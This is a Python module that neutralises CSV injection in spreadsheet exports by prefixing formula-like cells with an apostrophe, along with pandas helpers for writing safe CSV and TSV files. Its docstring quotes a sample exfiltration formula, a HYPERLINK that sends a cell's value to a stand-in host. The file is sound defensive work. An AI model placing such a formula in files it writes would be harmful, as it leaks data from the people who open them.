"""Spreadsheet-safe CSV / TSV: every file the product writes for people to open.

A subject like ``=HYPERLINK("http://evil.test/?leak="&A2,"click")`` or ``@SUM(A1:A9)``
written raw into a CSV is *run* by the spreadsheet IT opens it in (CSV injection). Every
text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
written with a leading apostrophe (``'=HYPERLINK(...)``), which spreadsheets show as text
and never evaluate (OWASP's advice). Plain numbers written as text (``-5``, ``+49``) stay as
they are: they cannot run anything. Numbers, dates and booleans in typed columns are
untouched; so are JSON and Parquet, which keep the raw value.

``neutralize`` is the one rule; ``safe_frame`` applies it to a DataFrame and ``write_csv``
writes one (the CLI output helper and the report exports both call these).
"""

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["DANGEROUS_LEADS", "neutralize", "safe_frame", "to_csv", "write_csv"]

#: what makes a spreadsheet treat a cell as a formula (or hide one behind a control char)
DANGEROUS_LEADS = ("=", "+", "-", "@", "\t", "\r")
#: RFC 4180 line ends: the csv module then quotes every cell holding a CR or LF, so a CR in
#: a subject can never split a row (with "\n" it would leave a lone CR unquoted)
LINE_END = "\r\n"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)*|\.\d+)(?:[eE][+-]?\d+)?")


def neutralize(value: Any) -> Any:
    """VALUE with a leading apostrophe when a spreadsheet would run it; else unchanged."""
    if not isinstance(value, str) or not value or not value.startswith(DANGEROUS_LEADS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def _cell(value: Any) -> Any:
    if isinstance(value, list | tuple) or (hasattr(value, "tolist") and not isinstance(value, str)):
        try:
            items = list(value)
        except TypeError:
            return neutralize(value)
        return neutralize(";".join("" if v is None else str(v) for v in items))
    return neutralize(value)


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of DF whose text cells cannot run in a spreadsheet (lists joined by ``;``)."""
    out = df.copy()
    for name in out.columns:
        col = out[name]
        if pd.api.types.is_numeric_dtype(col) or pd.api.types.is_datetime64_any_dtype(col):
            continue
        if pd.api.types.is_bool_dtype(col):
            continue
        out[name] = col.map(_cell, na_action="ignore")
    return out


def to_csv(df: pd.DataFrame, *, sep: str = ",", index: bool = False) -> str:
    """DF as spreadsheet-safe CSV (``sep="\\t"``: TSV) text."""
    buf = io.StringIO()
    safe_frame(df).to_csv(buf, sep=sep, index=index, lineterminator=LINE_END)
    return buf.getvalue()


def write_csv(df: pd.DataFrame, path: str | Path, *, sep: str = ",", index: bool = False) -> Path:
    """Write DF as spreadsheet-safe CSV (or TSV) to PATH."""
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    safe_frame(df).to_csv(target, sep=sep, index=index, lineterminator=LINE_END)
    return target
